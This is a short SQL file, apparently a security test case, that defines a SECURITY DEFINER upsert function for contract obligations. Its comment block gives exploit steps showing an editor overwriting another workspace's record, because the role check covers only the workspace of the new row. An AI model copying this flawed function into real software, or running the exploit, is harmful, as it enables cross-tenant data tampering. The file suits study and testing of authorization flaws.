-- An editor overwrites another workspace's obligation: only the workspace of the new row is checked.
-- about: save_obligation, obligations
-- as: hf_contracts_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001", "role": "member"}';
-- exploit: SELECT ct.save_obligation('a0000000-0000-4000-8000-000000000000',
-- exploit: 'b0000000-0000-4000-8000-000000000005', 'a0000000-0000-4000-8000-000000000003', 'overwritten');
-- exploit: SET request.jwt.claims = '{"sub": "b0000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT 'now: ' || what FROM ct.obligations;
-- shows: now: overwritten
-- The calendar sends obligations again and again; the same one is updated.
ALTER TABLE ct.obligations ADD CONSTRAINT obligations_id UNIQUE (obligation_id);
CREATE FUNCTION ct.save_obligation(ws uuid, id uuid, contract uuid, wording text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  IF NOT ct.has_role(ws, 'admin', 'editor') THEN
    RAISE EXCEPTION 'not an editor';
  END IF;
  INSERT INTO ct.obligations (workspace_id, obligation_id, contract_id, what)
  VALUES (ws, id, contract, wording)
  ON CONFLICT (obligation_id) DO UPDATE SET what = EXCLUDED.what;
END
$$;
GRANT EXECUTE ON FUNCTION ct.save_obligation(uuid, uuid, uuid, text) TO hf_contracts_app;
